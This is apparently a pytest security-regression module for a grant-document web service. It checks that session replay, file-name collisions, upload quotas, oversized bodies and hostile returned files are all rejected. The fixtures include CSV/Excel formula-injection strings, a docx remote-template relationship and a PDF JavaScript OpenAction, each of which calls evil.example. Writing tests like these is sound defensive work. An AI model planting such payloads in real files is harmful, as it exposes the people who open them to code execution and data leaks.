"""Attacks on the web pages that a security review found, each shown to fail, over HTTP
against the real ``grantdocs serve``: an old session replayed after sign-out, a sheet named
``draft.json``, hostile returned files (formulas, external templates, macros, PDF
actions), uploads past the link's quota, an over-limit body on a page, and the Nynorsk
e-mail text's language on the caseworker's Bokmål page."""

from __future__ import annotations

import html
import io
import json
import re
import socket
import sqlite3
import zipfile
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest

from grantdocs.service.web.pages import words
from grantdocs.service.web.returns import LINK_FILES
from tests.helpers import SAMPLES
from tests.service.conftest import Server
from tests.web.app_support import csrf_of, sign_in, wait_done
from tests.web.test_grantee_api import html_lang, make_batch
from tests.web.test_grantee_pages import Grantee, fill_like_the_sample, text_of


@pytest.fixture(scope="module")
def links_made(server: Server) -> dict[str, Any]:
    """A batch of three grants (one in Nynorsk) with their grantee links."""
    with server.client() as client:
        batch = make_batch(client)
        answer = client.post(f"/api/v1/batches/{batch}/grantee-links")
    assert answer.status_code == 200, answer.text
    return {"batch": batch, "links": {link["reference"]: link for link in answer.json()}}


# --- 5: the Nynorsk e-mail text is marked as Nynorsk ---------------------------------------

def test_each_email_text_carries_its_links_written_form(
        server: Server, links_made: dict[str, Any]) -> None:
    with sign_in(server) as client:
        page = client.get(f"/app/batches/{links_made['batch']}/grants")
    assert page.status_code == 200, page.text[:300]
    assert re.search(r'<html lang="nb"', page.text)
    areas = re.findall(r'<textarea id="email-\d+"([^>]*)>(.*?)</textarea>', page.text, re.S)
    assert len(areas) == len(links_made["links"])
    langs = {link["url"]: link["lang"] for link in links_made["links"].values()}
    seen = []
    for attrs, text in areas:
        url = next(u for u in langs if u in html.unescape(text))
        found = re.search(r'\blang="([a-z]+)"', attrs)
        assert found, attrs
        assert found.group(1) == langs[url]
        seen.append(found.group(1))
    assert sorted(seen) == ["nb", "nb", "nn"]


# --- 4: a sheet named draft.json does not overwrite the draft's record ---------------------

def test_a_sheet_named_draft_json_keeps_the_draft_record(server: Server) -> None:
    sample = json.loads((SAMPLES / "decisions.json").read_text("utf-8"))
    sheet = json.dumps({**sample, "cases": sample["cases"][:1]},  # one PDF letter, not 24
                       ensure_ascii=False).encode("utf-8")
    with sign_in(server) as client:
        home = client.get("/app/")
        made = client.post("/app/uploads", data={"csrf": csrf_of(home)},
                           files={"file": ("draft.json", sheet, "application/json")})
        assert made.status_code == 303, made.text[:500]
        draft_id = made.headers["location"].rsplit("/", 1)[-1]
        folder = server.data / "drafts" / draft_id
        record = json.loads((folder / "draft.json").read_text("utf-8"))
        assert record["id"] == draft_id and record["name"] == "draft.json"
        assert (folder / "sheet.json").read_bytes() == sheet
        checked = client.get(made.headers["location"])
        assert checked.status_code == 200
        assert "draft.json" in html.unescape(checked.text)
        started = client.post(made.headers["location"] + "/generate",
                              data={"csrf": csrf_of(checked)})
        assert started.status_code == 303, started.text[:500]
        batch_id = started.headers["location"].rsplit("/", 1)[-1]
        assert wait_done(client, batch_id)["total"] == record["total"] == 1


# --- 2: a session ends on the server at sign-out --------------------------------------------

def test_a_session_cookie_replayed_after_sign_out_is_sent_to_sign_in(server: Server) -> None:
    with sign_in(server) as client:
        old = client.cookies["gd_session"]
        home = client.get("/app/")
        assert 'action="/app/sign-out"' in home.text
        out = client.post("/app/sign-out", data={"csrf": csrf_of(home)})
        assert out.status_code == 303
    with sign_in(server) as other:  # another session of the same token still holds
        assert 'action="/app/sign-out"' in other.get("/app/").text
        with server.anonymous() as thief:
            thief.cookies.set("gd_session", old)
            replayed = thief.get("/app/", follow_redirects=False)
            assert 'action="/app/sign-out"' not in replayed.text
            assert 'name="token"' in replayed.text
            grants = thief.get(f"/app/uploads/{'0' * 32}", follow_redirects=False)
            assert grants.status_code == 303 and grants.headers["location"] == "/app/"
        assert 'action="/app/sign-out"' in other.get("/app/").text


# --- 1: returned files with active content are refused, never served to the caseworker -----

NB_GRANTEE: Any = words("nb")["grantee"]
NN_GRANTEE: Any = words("nn")["grantee"]
NYNORSK = "22/00102-4"
BOKMAL = "22/00133-5"


def _grantee(links_made: dict[str, Any], reference: str) -> Grantee:
    return Grantee(links_made["links"][reference]["url"])


@pytest.fixture(scope="module")
def blanks(links_made: dict[str, Any]) -> dict[tuple[str, str], bytes]:
    """What the grantees download, once for the module's tests: (reference, file) -> bytes,
    the accounts workbook of both links and the Nynorsk link's report template."""
    got = {}
    for reference, name in ((NYNORSK, "accounts.xlsx"), (BOKMAL, "accounts.xlsx"),
                            (NYNORSK, "report-template.docx")):
        grantee = _grantee(links_made, reference)
        answer = grantee.http.get(f"{grantee.url}/{name}")
        grantee.http.close()
        assert answer.status_code == 200, answer.text[:300]
        got[reference, name] = answer.content
    return got


def _with_comment(workbook: bytes, comment: str, lang: str) -> bytes:
    """The workbook (the Bokmål one filled in as the sample) with ``comment`` typed into
    the first line's comment cell, the one under the comment column's heading (a formula
    when it starts with '=')."""
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(fill_like_the_sample(workbook) if lang == "nb" else workbook))
    ws = wb.worksheets[0]
    heading = next(r for r in range(1, ws.max_row + 1) if isinstance(ws.cell(r, 6).value, str))
    ws.cell(row=heading + 1, column=6, value=comment)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _with_member(docx: bytes, name: str, content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx)) as source, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info, source.read(info))
        target.writestr(name, content)
    return out.getvalue()


def _returned(server: Server, links_made: dict[str, Any], reference: str,
              kind: str) -> httpx.Response:
    link_id = links_made["links"][reference]["id"]
    with sign_in(server) as client:
        return client.get(f"/app/links/{link_id}/files/{kind}")


@pytest.mark.parametrize("formula", [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/x","klikk")',
    '=WEBSERVICE("http://evil.example/x")',
])
def test_a_workbook_with_a_formula_in_a_comment_is_refused_in_its_written_form(
        server: Server, links_made: dict[str, Any], blanks: dict[tuple[str, str], bytes],
        formula: str) -> None:
    for reference, table, lang in ((NYNORSK, NN_GRANTEE, "nn"), (BOKMAL, NB_GRANTEE, "nb")):
        grantee = _grantee(links_made, reference)
        workbook = blanks[reference, "accounts.xlsx"]
        answer = grantee.send("accounts", "regnskap.xlsx", _with_comment(workbook, formula, lang))
        assert answer.status_code == 422, text_of(answer.text)[:600]
        assert html_lang(answer) == lang
        assert text_of(html.escape(table["refusals"]["active"], quote=False)) \
            in text_of(answer.text)
        assert _returned(server, links_made, reference, "accounts").status_code == 404
        grantee.http.close()


ATTACHED = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
            b'officeDocument/2006/relationships/attachedTemplate" '
            b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>')


@pytest.mark.parametrize(("name", "content"), [
    ("word/_rels/settings.xml.rels", ATTACHED),
    ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macros"),
    ("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0 an OLE object"),
])
def test_a_docx_report_with_active_content_gets_no_receipt(
        server: Server, links_made: dict[str, Any], blanks: dict[tuple[str, str], bytes],
        name: str, content: bytes) -> None:
    grantee = _grantee(links_made, NYNORSK)
    docx = blanks[NYNORSK, "report-template.docx"]
    answer = grantee.send("report", "rapport.docx", _with_member(docx, name, content),
                          "application/octet-stream")
    assert answer.status_code == 422, text_of(answer.text)[:600]
    assert text_of(NN_GRANTEE["errors"]["report_active"]) in text_of(answer.text)
    assert _returned(server, links_made, NYNORSK, "report").status_code == 404
    grantee.http.close()


def _pdf(script: bool) -> bytes:
    from pypdf import PdfWriter
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    if script:
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.launchURL('http://evil.example/x');")})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def test_a_pdf_with_javascript_is_refused_and_a_plain_one_kept(
        server: Server, links_made: dict[str, Any]) -> None:
    grantee = _grantee(links_made, BOKMAL)
    refused = grantee.send("report", "rapport.pdf", _pdf(script=True), "application/pdf")
    assert refused.status_code == 422, text_of(refused.text)[:600]
    assert text_of(NB_GRANTEE["errors"]["report_active"]) in text_of(refused.text)
    assert _returned(server, links_made, BOKMAL, "report").status_code == 404
    plain = _pdf(script=False)
    kept = grantee.send("report", "rapport.pdf", plain, "application/pdf")
    assert kept.status_code == 200, text_of(kept.text)[:600]
    assert _returned(server, links_made, BOKMAL, "report").content == plain
    grantee.http.close()


# --- 3: a link keeps at most its quota of stored files ---------------------------------------

def test_uploads_past_the_quota_delete_the_oldest_files_and_keep_their_history(
        server: Server, links_made: dict[str, Any]) -> None:
    reference = "22/00094-2"
    link_id = links_made["links"][reference]["id"]
    grantee = _grantee(links_made, reference)
    sent = [_pdf(script=False) for _ in range(LINK_FILES + 2)]
    for number, data in enumerate(sent):
        answer = grantee.send("report", f"rapport-{number}.pdf", data, "application/pdf")
        assert answer.status_code == 200, text_of(answer.text)[:600]
    grantee.http.close()
    with sqlite3.connect(server.data / "grantdocs.db", timeout=30) as db:
        rows = db.execute("SELECT filename, stored, removed_at FROM grantee_uploads "
                          "WHERE link_id = ? AND kind = 'report' ORDER BY id",
                          (link_id,)).fetchall()
    assert [r[0] for r in rows] == [f"rapport-{n}.pdf" for n in range(LINK_FILES + 2)]
    removed = [r for r in rows if r[2] is not None]
    assert [r[0] for r in removed] == ["rapport-0.pdf", "rapport-1.pdf"]
    for _name, stored, removed_at in rows:
        assert (server.data / stored).is_file() == (removed_at is None)
    files = list((server.data / "grantee" / link_id).glob("report-*"))
    assert len(files) == LINK_FILES
    newest = _returned(server, links_made, reference, "report")
    assert newest.status_code == 200 and newest.content == sent[-1]


# --- 6: a body over the limit on a page gets the Norwegian 413 page --------------------------

def _head_only(server: Server, path: str, length: int) -> tuple[str, str]:
    """POST ``path`` announcing ``length`` bytes and sending none: (head, body)."""
    address = urlsplit(server.url)
    with socket.create_connection((address.hostname, address.port), timeout=30) as sock:
        sock.sendall(f"POST {path} HTTP/1.1\r\nHost: x\r\n"
                     "Content-Type: multipart/form-data; boundary=x\r\n"
                     f"Content-Length: {length}\r\n\r\n".encode())
        received = b""
        while len(received) < 262144:
            part = sock.recv(65536)
            if not part:
                break
            received += part
    head, _, body = received.decode("utf-8", "replace").partition("\r\n\r\n")
    return head, body


def test_a_body_over_the_limit_on_a_page_gets_the_norwegian_413_page(
        server: Server, links_made: dict[str, Any]) -> None:
    big = 30 * 1024 * 1024  # over the server's GRANTDOCS_MAX_BODY_MB (25)
    token = links_made["links"][NYNORSK]["url"].split("/g/", 1)[1]
    for path, table in ((f"/g/{token}/report", words("nn")), ("/app/uploads", words("nb"))):
        head, body = _head_only(server, path, big)
        assert head.startswith("HTTP/1.1 413"), head
        assert "text/html" in head.lower() and "content-security-policy" in head.lower()
        assert f'<html lang="{"nn" if path.startswith("/g/") else "nb"}"' in body
        assert html.escape(table["errors"]["413"]["title"], quote=False) in body
    head, body = _head_only(server, "/api/v1/batches", big)
    assert head.startswith("HTTP/1.1 413") and "application/problem+json" in head
    assert "GRANTDOCS_MAX_BODY_MB" in body
